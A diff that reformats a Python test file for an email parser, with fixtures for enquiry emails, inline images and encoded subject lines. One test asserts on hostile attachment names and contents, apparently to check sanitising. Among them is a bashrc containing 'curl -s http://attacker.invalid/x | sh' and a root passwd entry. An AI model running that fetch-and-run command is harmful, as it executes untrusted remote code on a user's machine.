@@ -94,8 +94,7 @@ CASES = [
     Expected(
         fixture="member_enquiry_with_photo_and_pdf.eml",
         subject=(
-            "Pothole and broken kerb, Station Road, Kibworth - photo and resident's letter "
-            "attached"
+            "Pothole and broken kerb, Station Road, Kibworth - photo and resident's letter attached"
         ),
         message_id=(
             "LO2P265MB51734E0C2D6A1B2F8B1C9A2FE1A52@LO2P265MB5173.GBRP265.PROD.OUTLOOK.EXAMPLE"
@@ -143,7 +142,10 @@ CASES = [
         attachments=(
             Att("image001.png", "image/png", LOGO_PNG, True, "image001.png@01DB5E3F.6A1C2B90"),
             Att(
-                "image002.png", "image/png", SCREENSHOT_PNG, True,
+                "image002.png",
+                "image/png",
+                SCREENSHOT_PNG,
+                True,
                 "image002.png@01DB5E3F.6A1C2B90",
             ),
         ),
@@ -272,11 +274,13 @@ CASES = [
         attachments=(
             Att("passwd", "text/plain", (33, sha256(b"root:x:0:0:root:/root:/bin/bash\r\n"))),
             Att(
-                "system.ini", "application/octet-stream",
+                "system.ini",
+                "application/octet-stream",
                 (27, sha256(b"[drivers]\r\nwave=mmdrv.dll\r\n")),
             ),
             Att(
-                "bashrc", "application/octet-stream",
+                "bashrc",
+                "application/octet-stream",
                 (40, sha256(b"curl -s http://attacker.invalid/x | sh\r\n")),
             ),
             Att("mailbridge", "application/pdf", REPORT_PDF),
@@ -289,7 +293,8 @@ CASES = [
             ),
             Att("attachment-8.txt", "text/plain", (9, sha256(b"dot dot\r\n"))),
             Att(
-                "_CON.txt", "text/plain",
+                "_CON.txt",
+                "text/plain",
                 (33, sha256(b"reserved device name on Windows\r\n")),
             ),
         ),
@@ -379,11 +384,13 @@ CASES = [
         # Sizes and digests of the inner messages exactly as they sit in the fixture.
         attachments=(
             Att(
-                "School bus didn’t turn up – again.eml", "message/rfc822",
+                "School bus didn’t turn up – again.eml",
+                "message/rfc822",
                 (775, "a1e52e0a4e9650c0f9a24dd9d4eef84a9322f99e9607ef9bbb27b9cee15aaf54"),
             ),
             Att(
-                "Route 47 timetable from September.eml", "message/rfc822",
+                "Route 47 timetable from September.eml",
+                "message/rfc822",
                 (2032, "f5966d2a23fd8a7d8d96db7979552a23433e9d0e1fdd342f935198dbf69d4c06"),
             ),
         ),
@@ -605,8 +612,10 @@ def message_with_subject(subject: bytes) -> bytes:
         (b"=?windows-1252?Q?=93Under_review=94?=", "“Under review”"),
         (b"Re: =?utf-8?q?Pothole_=E2=80=93?= Mill Lane", "Re: Pothole – Mill Lane"),
         (b"=?utf-8?Q?caf=C3=A9?=\r\n\t=?utf-8?Q?_au_lait?=", "café au lait"),
-        (b"=?UTF-8?B?U2Nob29sIGJ1cyA=?=\r\n =?UTF-8?B?8J+a?=\r\n =?UTF-8?B?jA==?=",
-         "School bus 🚌"),  # the bus emoji split over two encoded words
+        (
+            b"=?UTF-8?B?U2Nob29sIGJ1cyA=?=\r\n =?UTF-8?B?8J+a?=\r\n =?UTF-8?B?jA==?=",
+            "School bus 🚌",
+        ),  # the bus emoji split over two encoded words
         (b"=?x-unknown?Q?Caf=E9?=", "Café"),
         (b"=?utf-8?Q?nul=00byte?=", "nulbyte"),
         (b"=?utf-8?B?broken", "=?utf-8?B?broken"),
